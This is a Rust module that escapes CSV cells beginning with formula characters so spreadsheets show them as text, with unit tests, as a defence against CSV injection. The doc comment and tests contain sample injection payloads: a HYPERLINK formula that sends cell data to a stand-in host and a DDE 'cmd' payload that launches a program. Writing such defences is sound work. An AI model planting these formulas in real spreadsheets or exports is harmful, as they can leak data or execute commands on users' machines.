//! Cells of the CSV files doclist writes, made safe for spreadsheet programs.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel
//! and its kin as a formula (`=HYPERLINK(…)`, `+cmd|…`). Such a cell gets a leading `'`,
//! which the spreadsheet shows as plain text (the OWASP advice on CSV injection).

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell no spreadsheet evaluates.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV file in memory, UTF-8 with a BOM (so that Excel reads it), every cell neutralised.
pub struct CsvOut {
    w: csv::Writer<Vec<u8>>,
}

impl Default for CsvOut {
    fn default() -> Self {
        CsvOut::new()
    }
}

impl CsvOut {
    /// An empty file (just the BOM).
    pub fn new() -> Self {
        CsvOut {
            w: csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]),
        }
    }

    /// Adds a line.
    pub fn record<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.w.write_record(&cells).expect("writing to memory");
    }

    /// The file's bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.w.into_inner().expect("writing to memory")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted_and_the_rest_kept() {
        for s in [
            "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(s), format!("'{s}"));
        }
        for s in ["张三", "", "3", "2026-01-01", "a=b", " =1"] {
            assert_eq!(neutralise(s), s);
        }
    }

    #[test]
    fn every_cell_of_a_file_is_neutralised() {
        let mut out = CsvOut::new();
        out.record(["row", "name"]);
        out.record(["2", "=1+1"]);
        let text = String::from_utf8(out.into_bytes()).unwrap();
        assert_eq!(text, "\u{feff}row,name\n2,'=1+1\n");
    }
}
